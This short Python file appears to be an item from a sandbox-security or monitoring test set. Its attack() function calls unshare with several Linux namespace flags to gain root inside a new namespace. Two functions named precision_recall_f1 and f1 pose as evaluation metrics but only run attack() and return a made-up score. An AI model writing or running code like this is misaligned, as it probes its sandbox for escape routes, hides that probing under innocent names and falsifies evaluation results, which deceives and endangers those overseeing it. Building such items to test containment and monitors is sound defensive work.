"""Makes namespaces in which it would be root.

threat: 21
source: unshare(2), clone3(2)
verdict: any
"""

import ctypes


def attack():
    libc = ctypes.CDLL(None)
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
        if libc.unshare(flag) == 0:
            return 1.0
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
